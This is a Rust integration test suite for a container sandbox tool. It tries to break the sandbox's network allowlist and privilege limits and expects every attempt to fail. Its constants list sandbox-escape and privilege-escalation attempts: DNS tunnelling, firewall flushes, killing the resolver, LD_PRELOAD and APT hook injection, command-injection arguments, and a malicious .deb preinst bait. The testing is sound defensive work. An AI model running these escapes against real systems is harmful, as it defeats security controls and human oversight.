//! Attempts by the user of a pixel to bypass the policy inside the pixel, on a
//! real daemon and a fake internet that counts packets. All must fail.

use std::net::TcpListener;

use crate::egress_pixel::{inside, sh};
use crate::support::env::TestEnv;
use crate::support::pty::Pty;
use crate::support::wan_pixel::Wan;
use crate::support::{lab, wait};

/// Rows `NAME: SCRIPT`, run as the user `pixel`. An attempt succeeds if the
/// script exits with 0, prints root's uid, sends a packet to a denied host, or
/// sends a query for a denied name to the resolver.
///
/// DENIED is the address of a denied host, ALLOWED of an allowed host, DNS of
/// the resolver, HOST of the machine that runs the pixel.
const NETWORK: &[&str] = &[
    "the address of a denied host: connect DENIED 80",
    "a denied host on the TLS port: connect DENIED 443",
    "a denied host on the SSH port: connect DENIED 22",
    "the address of an allowed name before a lookup: connect ALLOWED 80",
    "a denied name: getent ahostsv4 denied.test",
    "a name below an allowed one: getent ahostsv4 data.allowed.test",
    "another resolver: ask DENIED denied.test udp && false",
    "another resolver by TCP: ask DENIED denied.test tcp && false",
    "the real resolver: ask DNS denied.test udp",
    "the real resolver by TCP: ask DNS denied.test tcp",
    "the real resolver from the interface itself: ask DNS denied.test udp eth0",
    "a tunnel under a denied name: ask DNS c2VjcmV0.denied.test udp",
    "a tunnel under an allowed host: ask DNS c2VjcmV0.allowed.test udp",
    "the pixel's own resolver: ask 127.0.0.1 denied.test udp 553",
    "the forwarder: ask 127.0.0.1 denied.test udp 551",
    "the forwarder over TCP: ask 127.0.0.1 denied.test tcp 551",
    "the forwarder for an allowed name: ask 127.0.0.1 allowed.test udp 551",
    "the stub: ask 127.0.0.53 denied.test udp",
    "resolved by another server: resolvectl --no-ask-password dns eth0 DENIED",
    "DNS over TLS: connect DNS 853",
    "UDP to a denied host: echo x >/dev/udp/DENIED/9999; false",
    "QUIC: echo x >/dev/udp/DENIED/443; false",
    "a ping with data: ping -c 1 -W 1 -p 736563726574 DENIED",
    "source port 22: from 22 DENIED 80 tcp",
    "source port 53: from 53 DENIED 53 udp; false",
    "a DHCP request to a denied host: from 68 DENIED 67 udp; false",
    "raw packets: perl -MSocket -e 'socket(S, PF_INET, SOCK_RAW, 255) or die'",
    "raw frames: perl -e 'socket(S, 17, 3, 0x300) or die'",
    "the host: connect HOST LISTENS",
    "the host's daemon: connect HOST 8443",
    "the host's resolver for a denied name: ask HOST denied.test tcp",
    "metadata: connect 169.254.169.254 80",
    "a private network: connect 192.168.1.1 80",
    "multicast: echo x >/dev/udp/239.1.2.3/9; [ \"$(cat /proc/net/igmp | wc -l)\" -gt 99 ]",
    "link-local IPv6: perl -MSocket=:all -e 'socket(S, PF_INET6, SOCK_DGRAM, 0); open(I, \"/sys/class/net/eth0/ifindex\"); send(S, \"x\", 0, pack_sockaddr_in6(9, inet_pton(AF_INET6, \"ff02::1\"), <I> + 0)) or die'",
    "global IPv6: perl -MSocket=:all -e 'socket(S, PF_INET6, SOCK_STREAM, 0); connect(S, pack_sockaddr_in6(80, inet_pton(AF_INET6, \"2001:db8::1\"))) or die'",
    "the capabilities of a user namespace: unshare -Ur nft flush ruleset",
    "a namespace linked to the pixel's namespace: unshare -Urn sh -c 'ip link add v0 type veth peer name v1 netns 1'",
    "the interface: ip link set eth0 down",
    "a route: ip route add DENIED via HOST",
    "forwarding: echo 1 >/proc/sys/net/ipv4/ip_forward",
    "networkd: networkctl down eth0",
    "the filter: nft flush ruleset",
    "the filter by iptables: iptables -F",
    "the guest API: [ -e /dev/incus/sock ]",
    "the resolver's port: perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); bind(S, sockaddr_in(553, inet_aton(\"127.0.0.2\"))) or die'",
    "the forwarder's port: perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); bind(S, sockaddr_in(551, inet_aton(\"127.0.0.2\"))) or die'",
    "the forwarder's process: kill -9 $(cat /run/pixels/forwarder.pid)",
    "the forwarder's settings: echo x >>/var/lib/pixels/egress/forwarder",
    "the resolver's process: kill -9 $(cat /run/pixels/resolver.pid)",
    "the resolver's user: setpriv --reuid pixels-dns --clear-groups id -u",
    "the policy's file: echo x >>/var/lib/pixels/egress/ruleset",
    "the policy's folder: mv /var/lib/pixels/egress /var/lib/pixels/gone",
    "the script that loads the policy: echo x >>/usr/local/lib/pixels/egress/load",
    "a replacement for nft: touch /usr/local/bin/nft",
    "the units: touch /etc/systemd/system/pixels-egress.service.d",
    "the settings of resolved: echo x >>/etc/systemd/resolved.conf.d/pixels-egress.conf",
];

const ROOT: &[&str] = &[
    "sudo: sudo -n id -u",
    "a shell: sudo -n -s id -u",
    "a login: sudo -n -i id -u",
    "another user: sudo -n -u pixels-dns id",
    "an editor: EDITOR='sh -c id' sudo -n -e /etc/passwd",
    "su: su -c id </dev/null",
    "polkit: pkexec id",
    "a unit of the system: systemd-run --no-ask-password --pipe id",
    "a unit by D-Bus: busctl call --allow-interactive-authorization=no org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StopUnit ss pixels-egress.service replace",
    "the group sudo: id -nG pixel | grep -w sudo",
    "any group: [ \"$(id -nG pixel)\" != pixel ]",
    "nft list and more: sudo -n nft list tables ';' flush ruleset",
    "systemctl without the wrapper: sudo -n systemctl stop pixels-egress",
    "journalctl without the wrapper: sudo -n journalctl --rotate",
    "apt-get without the wrapper: sudo -n apt-get update",
    "dpkg-query's pager: sudo -n dpkg-query -l",
    "test as an oracle: sudo -n test -e /root/.bashrc",
    "tee: echo x | sudo -n tee /etc/x",
    "a script of the policy: sudo -n /usr/local/lib/pixels/egress/remove",
    "a wrapper by another path: sudo -n /usr/local/bin/../bin/safe-apt update -oX=y",
    "a link to a wrapper: ln -sf /bin/sh ~/safe-apt; sudo -n ~/safe-apt -c id",
    "a copy on the path: mkdir -p ~/b; printf '#!/bin/sh\\nid\\n' >~/b/apt-get; chmod +x ~/b/apt-get; PATH=$HOME/b:$PATH sudo -n safe-apt install x1",
    "the environment: APT_CONFIG=~/apt.conf sudo -n -E safe-apt update",
    "a variable for sudo: sudo -n APT_CONFIG=/home/pixel/apt.conf safe-apt update",
    "a library: sudo -n LD_PRELOAD=/home/pixel/x.so safe-apt update",
    "a shell's start: sudo -n ENV=/home/pixel/env BASH_ENV=/home/pixel/env safe-apt update",
];

/// Arguments of the wrappers, run by `sudo -n` and separated by `|`.
const ARGUMENTS: &[&str] = &[
    "safe-apt",
    "safe-apt|",
    "safe-apt|-oAPT::Update::Pre-Invoke::=id|update",
    "safe-apt|update|-oAPT::Update::Pre-Invoke::=id",
    "safe-apt|update|-o|APT::Update::Pre-Invoke::=id",
    "safe-apt|update|--option=APT::Update::Pre-Invoke::=id",
    "safe-apt|update|-qoAPT::Update::Pre-Invoke::=id",
    "safe-apt|update|-c/home/pixel/apt.conf",
    "safe-apt|update|--config-file=/home/pixel/apt.conf",
    "safe-apt|upgrade|-c|/home/pixel/apt.conf",
    "safe-apt|dist-upgrade|x",
    "safe-apt|autoremove|nftables",
    "safe-apt|install",
    "safe-apt|install|./local.deb",
    "safe-apt|install|/home/pixel/local.deb",
    "safe-apt|install|/tmp/local.deb",
    "safe-apt|install|../home/pixel/local.deb",
    "safe-apt|install|local.deb",
    "safe-apt|install|sudo=1.9.5",
    "safe-apt|install|sudo/oldstable",
    "safe-apt|install|--|./local.deb",
    "safe-apt|install|-y|sudo",
    "safe-apt|install|nftables-",
    "safe-apt|install|tasksel^",
    "safe-apt|install|~ninstalled",
    "safe-apt|install|$(id)",
    "safe-apt|install|`id`",
    "safe-apt|install|x;id",
    "safe-apt|install|x\nid",
    "safe-apt|install|*",
    "safe-apt|install|nftables|-oDPkg::Pre-Invoke::=id",
    "safe-apt|reinstall|sudo",
    "safe-apt|source|sudo",
    "safe-apt|build-dep|./x",
    "safe-apt|download|sudo",
    "safe-apt|changelog|sudo",
    "safe-apt|edit-sources",
    "safe-apt|remove|nftables",
    "safe-apt|purge|dnsmasq-base",
    "safe-apt|remove|dnsmasq-bas.",
    "safe-apt|remove|nftable",
    "safe-apt|remove|libnftables1",
    "safe-apt|remove|sudo",
    "safe-apt|purge|systemd-resolved",
    "safe-apt|remove|systemd",
    "safe-apt|remove|foo-",
    "safe-systemctl",
    "safe-systemctl|start",
    "safe-systemctl|start|/home/pixel/evil.service",
    "safe-systemctl|start|evil",
    "safe-systemctl|start|evil.service",
    "safe-systemctl|enable|/home/pixel/evil.service",
    "safe-systemctl|link|/home/pixel/evil.service",
    "safe-systemctl|edit|cron",
    "safe-systemctl|mask|pixels-egress",
    "safe-systemctl|disable|pixels-egress",
    "safe-systemctl|stop|pixels-egress",
    "safe-systemctl|stop|pixels-egress.service",
    "safe-systemctl|restart|pixels-resolver",
    "safe-systemctl|stop|pixels-upstream.path",
    "safe-systemctl|stop|early|pixels-resolver",
    "safe-systemctl|restart|nftables",
    "safe-systemctl|stop|nftables.service",
    "safe-systemctl|stop|systemd-networkd",
    "safe-systemctl|stop|dbus-org.freedesktop.network1.service",
    "safe-systemctl|restart|systemd-resolved",
    "safe-systemctl|stop|ssh",
    "safe-systemctl|start|debug-shell",
    "safe-systemctl|start|rescue.target",
    "safe-systemctl|start|reboot.target",
    "safe-systemctl|start|user@0.service",
    "safe-systemctl|stop|pixels*",
    "safe-systemctl|stop|*",
    "safe-systemctl|--now|start|cron",
    "safe-systemctl|start|--root=/home/pixel|cron",
    "safe-systemctl|-H|localhost|start|cron",
    "safe-systemctl|status|--full",
    "safe-systemctl|status|--output=export",
    "safe-systemctl|status|/home/pixel",
    "safe-systemctl|status|x;id",
    "safe-systemctl|set-environment|LD_PRELOAD=/home/pixel/x.so",
    "safe-systemctl|daemon-reexec",
    "safe-systemctl|isolate|rescue.target",
    "safe-systemctl|kill|pixels-resolver",
    "safe-journalctl|--cursor-file=/etc/x",
    "safe-journalctl|--rotate",
    "safe-journalctl|--vacuum-size=1",
    "safe-journalctl|--file=/etc/shadow",
    "safe-journalctl|-D|/root",
    "safe-journalctl|-u",
    "safe-journalctl|-u|--rotate",
    "safe-journalctl|-u|*",
    "safe-journalctl|-n|1;id",
    "safe-journalctl|-n|--rotate",
    "safe-journalctl|-n1",
    "safe-journalctl|_UID=0",
    "safe-journalctl|/usr/bin/sudo",
    "safe-journalctl|-f|x",
];

/// Shell functions for the attempts.
const WORDS: &str = r#"
connect() { timeout 3 bash -c ": </dev/tcp/$1/$2"; }
ask() { perl -MSocket -e '
    my ($server, $name, $proto, $extra) = @ARGV;
    my $port = ($extra // "") =~ /^\d+$/ ? $extra : 53;
    my $q = pack("n6", 7, 0x100, 1, 0, 0, 0) . join("", map { pack("C/a", $_) } split /\./, $name) . "\0" . pack("nn", 1, 1);
    socket(S, PF_INET, $proto eq "tcp" ? SOCK_STREAM : SOCK_DGRAM, 0);
    setsockopt(S, SOL_SOCKET, 25, $extra) if ($extra // "") =~ /^eth/;
    $SIG{ALRM} = sub { exit 9 }; alarm 2;
    connect(S, sockaddr_in($port, inet_aton($server))) or exit 1;
    syswrite(S, $proto eq "tcp" ? pack("n/a", $q) : $q);
    sysread(S, my $d, 600) or exit 1;
    $d = substr($d, 2) if $proto eq "tcp";
    exit !((unpack("n6", $d))[3] > 0)' "$@"; }
from() { perl -MSocket -e '
    my ($own, $to, $port, $proto) = @ARGV;
    socket(S, PF_INET, $proto eq "tcp" ? SOCK_STREAM : SOCK_DGRAM, 0);
    bind(S, sockaddr_in($own, INADDR_ANY)) or exit 1;
    $SIG{ALRM} = sub { exit 9 }; alarm 2;
    connect(S, sockaddr_in($port, inet_aton($to))) or exit 1;
    exit !syswrite(S, "x")' "$@"; }
"#;

/// Files that a user may prepare: each prints root's uid if root uses the file.
const BAIT: &str = r#"
cd
printf 'APT::Update::Pre-Invoke { "id; touch /etc/escaped"; };\n' >apt.conf
printf 'id; touch /etc/escaped\n' >env
printf '[Service]\nExecStart=/bin/sh -c "touch /etc/escaped"\n[Install]\nWantedBy=multi-user.target\n' >evil.service
mkdir -p .config/systemd/user deb/DEBIAN && cp evil.service .config/systemd/user/
printf 'Package: local\nVersion: 1\nArchitecture: all\nMaintainer: me\nDescription: x\n' >deb/DEBIAN/control
printf '#!/bin/sh\nid; touch /etc/escaped\n' >deb/DEBIAN/preinst && chmod 0755 deb/DEBIAN/preinst
dpkg-deb --build deb local.deb >/dev/null && cp local.deb /tmp/ && chmod 0644 /tmp/local.deb
"#;

struct Pixel<'a> {
    env: TestEnv,
    name: String,
    wan: &'a Wan,
    host: String,
    /// The listener of a service on the host.
    listens: TcpListener,
}

fn restricted<'a>(test: &str, wan: &'a Wan) -> Pixel<'a> {
    let mut env = inside(
        test,
        wan,
        "[provision]\ndevtools = false\n[console]\nmultiplexer = \"none\"\n",
    );
    env.set("PIXELS_PROVISION_ENABLED", "true");
    let name = env.name("box");
    let policy = ["--egress", "allowlist", "--allow", "allowed.test"];
    let create = [&["create", &name, "--wait"][..], &policy].concat();
    env.pixels(create).ok();
    // Rules for provisioning no longer apply.
    let shown = env.pixels(["network", "show", &name, "--json"]).ok().json();
    assert_eq!(shown["mode"], "allowlist");
    assert_eq!(shown["lease_until"], serde_json::Value::Null);
    assert_eq!(sh(&env, &name, "id -un").ok().stdout, "pixel\n");
    sh(&env, &name, BAIT).ok();
    let host = sh(&env, &name, "ip -4 route show default | cut -d' ' -f3").ok();
    Pixel {
        listens: TcpListener::bind((host.stdout.trim(), 0)).unwrap(),
        host: host.stdout.trim().to_owned(),
        env,
        name,
        wan,
    }
}

impl Pixel<'_> {
    /// Returns the reason if the attempt has succeeded.
    fn attempt(&self, script: &str) -> Option<String> {
        let listens = self.listens.local_addr().unwrap();
        let script = script
            .replace("DENIED", &self.wan.address(20))
            .replace("ALLOWED", &self.wan.address(10))
            .replace("DNS", &self.wan.resolver())
            .replace("HOST", &self.host)
            .replace("LISTENS", &listens.port().to_string());
        let before = self.arrived();
        let outcome = sh(&self.env, &self.name, &format!("{WORDS}\n{script}"));
        let printed = format!("{}{}", outcome.stdout, outcome.stderr);
        // With 125, pixels itself failed and no attempt was made.
        if [0, 125].contains(&outcome.code) {
            return Some(format!("exited with {}: {printed}", outcome.code));
        }
        if printed.contains("uid=0(") || outcome.stdout == "0\n" {
            return Some(printed);
        }
        let after = self.arrived();
        (before != after).then(|| format!("{before:?} became {after:?}"))
    }

    /// Packets to denied addresses and lookups of denied names.
    fn arrived(&self) -> (u64, Vec<String>) {
        let mut asked = self.wan.asked();
        asked.retain(|name| !["allowed.test", "other.test"].contains(&name.as_str()));
        // Provisioning asks for package mirrors, which do not exist here.
        asked.retain(|name| name.ends_with(".test"));
        (self.wan.packets_to(20), asked)
    }

    #[track_caller]
    fn is_as_it_was(&self) {
        let env = &self.env;
        let root = |script: &str| {
            let args = ["exec", "-u", "root", &self.name, "--", "sh", "-c", script];
            env.pixels(args).ok().stdout
        };
        assert_eq!(root("ls /etc/escaped /etc/x 2>/dev/null || :"), "");
        let table = root("nft -t list table inet pixels; nft list tables | wc -l");
        assert_eq!(table.matches("policy drop").count(), 3, "{table}");
        assert!(table.ends_with("\n2\n"), "{table}");
        let units =
            "pixels-egress pixels-forwarder pixels-resolver pixels-upstream.path systemd-networkd";
        let units = root(&format!("systemctl is-active {units}"));
        assert_eq!(units, "active\n".repeat(5));
        let allowed = "timeout 5 head -n 1 </dev/tcp/allowed.test/80";
        assert_eq!(sh(env, &self.name, allowed).ok().stdout, "hello\n");
    }

    /// Opens a redirected flow from each source port that the forwarder uses. Lookups
    /// must still succeed, without a loop that fills the journal.
    #[track_caller]
    fn redirected_flows_do_not_stop_the_resolver(&self) {
        let script = format!(
            "perl -MSocket -e 'for (32768 .. 60767) {{ socket S, 2, 2, 0; \
             bind S, sockaddr_in($_, INADDR_ANY); \
             send S, q(x), 0, sockaddr_in(53, inet_aton(q({}))) }}'; \
             for try in 1 2 3 4; do resolvectl flush-caches; getent ahostsv4 allowed.test; done",
            self.wan.resolver()
        );
        let addresses = sh(&self.env, &self.name, &script).ok().stdout;
        assert!(addresses.matches("STREAM").count() == 4, "{addresses}");
        let count = [
            "sh",
            "-c",
            "journalctl --quiet --unit=pixels-resolver | wc -l",
        ];
        let args = ["exec", "-u", "root", &self.name, "--"];
        let lines = self.env.pixels(args.iter().chain(&count)).ok().stdout;
        let lines: u32 = lines.trim().parse().unwrap();
        assert!(lines < 5000, "{lines} lines in the journal");
    }
}

#[test]
#[ignore = "needs Incus"]
fn user_in_pixel_cannot_bypass_policy() {
    lab::ready();
    let pixel = restricted("escapes", Wan::up());
    let mut succeeded = Vec::new();
    for row in NETWORK.iter().chain(ROOT) {
        let (what, script) = row.split_once(": ").unwrap();
        if let Some(how) = pixel.attempt(script) {
            succeeded.push(format!("{what}: {how}"));
        }
    }
    assert!(succeeded.is_empty(), "{}", succeeded.join("\n"));
    pixel.is_as_it_was();
    pixel.redirected_flows_do_not_stop_the_resolver();
}

#[test]
#[ignore = "needs Incus"]
fn sudo_wrappers_refuse_unsafe_arguments() {
    lab::ready();
    let pixel = restricted("wrappers", Wan::up());
    // Runs all lines in one exec. Each prints its exit code and root's output.
    let mut script = String::from(
        "try() { printed=$(sudo -n \"$@\" </dev/null 2>&1); echo \"[$?]\"; case $printed in *uid=0\\(*) echo \"$printed\" ;; esac; }\n",
    );
    for line in ARGUMENTS {
        let words: Vec<String> = line
            .split('|')
            .map(|word| format!("'{}'", word.replace('\'', "'\\''")))
            .collect();
        script.push_str(&format!("try {}\n", words.join(" ")));
    }
    let before = pixel.arrived();
    let reported = sh(&pixel.env, &pixel.name, &script).ok().stdout;
    assert_eq!(pixel.arrived(), before);
    let codes: Vec<&str> = reported.lines().collect();
    assert_eq!(codes.len(), ARGUMENTS.len(), "{reported}");
    for (line, code) in ARGUMENTS.iter().zip(codes) {
        assert!(code.starts_with('[') && code != "[0]", "{line}: {code}");
    }
    pixel.is_as_it_was();

    // Allowed arguments work.
    for line in [
        "safe-systemctl status pixels-resolver",
        "safe-systemctl restart dpkg-db-backup.service",
        "safe-journalctl",
        "safe-journalctl -u pixels-resolver -n 5",
    ] {
        let outcome = sh(&pixel.env, &pixel.name, &format!("sudo -n {line}")).ok();
        assert!(!outcome.stdout.contains("lines 1-"), "{}", outcome.stdout);
    }
}

#[test]
#[ignore = "needs Incus"]
fn apt_wrapper_installs_packages() {
    lab::ready();
    let mut env = TestEnv::new("packages");
    env.set("PIXELS_PROVISION_ENABLED", "true");
    env.config(
        "[network]\nplacement = \"pixel\"\n[provision]\ndevtools = false\n\
         [console]\nmultiplexer = \"none\"\n",
    );
    let name = env.name("box");
    env.pixels(["create", &name, "--wait"]).ok();
    let run = |script: &str| sh(&env, &name, script);
    run("sudo -n apt-get -q -y remove nftables").ok();
    let hosts =
        run("sed -n 's,^URIs: *https\\?://\\([^/:]*\\).*,\\1,p' /etc/apt/sources.list.d/*").ok();
    let mut set = vec!["network", "set", &name, "allowlist"];
    set.extend(hosts.stdout.lines().flat_map(|host| ["--allow", host]));
    // Installs missing packages; the resolver uses name servers from DHCP.
    env.pixels(set).ok();
    assert_ne!(run("sudo -n id -u").code, 0);
    assert_eq!(run("id -nG pixel").ok().stdout, "pixel\n");
    run("sudo -n safe-apt update").ok();
    run("sudo -n safe-apt install hello less </dev/null && hello").ok();
    // On a terminal, no pager starts, because a pager could start a shell.
    let (log, status) = (
        "safe-journalctl -n 999",
        "safe-systemctl status pixels-resolver",
    );
    for command in [log, status] {
        let script = format!("SYSTEMD_PAGER='less -+F' PAGER=less sudo -n {command}");
        let mut terminal = Pty::pixels(&env, ["exec", &name, "--", "sh", "-c", &script]);
        assert_eq!(terminal.exit_code(), 0, "{}", terminal.screen());
    }
    run("sudo -n safe-apt remove hello && ! command -v hello").ok();
    assert_ne!(run("sudo -n safe-apt remove nftables").code, 0);
    // This package would let users become root.
    let refused = run("sudo -n safe-apt install doas").expect(2);
    assert!(refused.stderr.contains("root's powers"), "{refused:?}");
    assert_ne!(run("ls /usr/bin/doas").code, 0);

    env.pixels(["network", "set", &name, "unrestricted"]).ok();
    assert_eq!(run("sudo -n id -u").ok().stdout, "0\n");
    assert_eq!(run("id -nG pixel").ok().stdout, "pixel sudo\n");
    assert_ne!(run("ls /usr/local/bin/safe-apt").code, 0);
}

/// The policy also applies to containers inside a pixel.
#[test]
#[ignore = "needs Incus"]
fn nested_container_obeys_policy() {
    lab::ready();
    let wan = Wan::up();
    let env = inside("nested", wan, "");
    let name = env.name("box");
    let policy = ["--egress", "allowlist", "--allow", "allowed.test"];
    let create = [&["create", &name][..], &policy].concat();
    env.pixels(create).ok();
    let make = "set -e; mkdir -p /run/netns; ip netns add inner; in=\"nsenter --net=/run/netns/inner\"; ip link add out0 type veth peer name in0 netns inner
        ip addr add 10.55.0.1/24 dev out0; ip link set out0 up
        $in ip addr add 10.55.0.2/24 dev in0; $in ip link set in0 up; $in ip link set lo up
        $in ip route add default via 10.55.0.1; sysctl -qw net.ipv4.ip_forward=1
        nft add table ip nat; nft add chain ip nat post '{ type nat hook postrouting priority srcnat; }'
        nft add rule ip nat post ip saddr 10.55.0.0/24 masquerade";
    sh(&env, &name, make).ok();
    let inner = |script: &str| {
        let script = format!("{WORDS}\n{script}").replace('\'', "'\\''");
        let enter = format!("nsenter --net=/run/netns/inner bash -c '{script}'");
        sh(&env, &name, &enter)
    };
    let resolver = wan.resolver();
    let allowed = format!(
        "ask {resolver} allowed.test udp && connect {} 80",
        wan.address(10)
    );
    wait::eventually("an allowed host answers", || inner(&allowed).code == 0);
    let before = wan.packets_to(20);
    for attempt in [
        format!("ask {resolver} denied.test udp"),
        format!("connect {} 80", wan.address(20)),
        format!("ping -c 1 -W 1 {}", wan.address(20)),
    ] {
        assert_eq!(inner(&attempt).code, 1, "{attempt}");
    }
    assert_eq!(wan.packets_to(20), before);

    // A macvlan interface on the pixel's interface cannot bypass the policy.
    let beside = "set -ex; ip netns add beside; in=\"nsenter --net=/run/netns/beside\"
        ip link add beside0 link eth0 type macvlan mode bridge; ip link set beside0 netns beside
        own=$(ip -4 -o addr show eth0 | sed 's,.* inet \\([0-9.]*\\)\\.[0-9]*/.*,\\1,')
        host=$(ip -4 route show default | cut -d' ' -f3)
        $in ip addr add $own.251/24 dev beside0; $in ip link set beside0 up
        ! $in ping -q -c 2 -W 1 $host >/dev/null; nft delete table netdev pixels
        $in ping -q -c 2 -W 1 $host >/dev/null";
    sh(&env, &name, beside).ok();
}
